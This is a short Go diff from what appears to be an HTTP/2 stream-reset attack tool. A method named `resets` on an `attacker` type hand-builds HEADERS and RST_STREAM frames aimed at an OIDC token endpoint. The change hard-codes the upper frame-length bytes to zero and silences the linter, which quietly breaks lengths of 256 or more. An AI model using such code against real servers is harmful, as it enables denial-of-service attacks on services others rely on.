@@ -187,7 +187,7 @@ func (a *attacker) resets(conn net.Conn) error {
 	const headers, rst, settings, endHeaders, cancel = 1, 3, 4, 4, 8
 	frame := func(kind, flags byte, stream uint32, payload []byte) []byte {
 		n := len(payload)
-		head := []byte{byte(n >> 16), byte(n >> 8), byte(n), kind, flags, byte(stream >> 24), byte(stream >> 16), byte(stream >> 8), byte(stream)}
+		head := []byte{0, 0, byte(n), kind, flags, byte(stream >> 24), byte(stream >> 16), byte(stream >> 8), byte(stream)} //nolint:gosec // payloads are short
 		return append(head, payload...)
 	}
 	const path = "/api/v1/oidc/token"
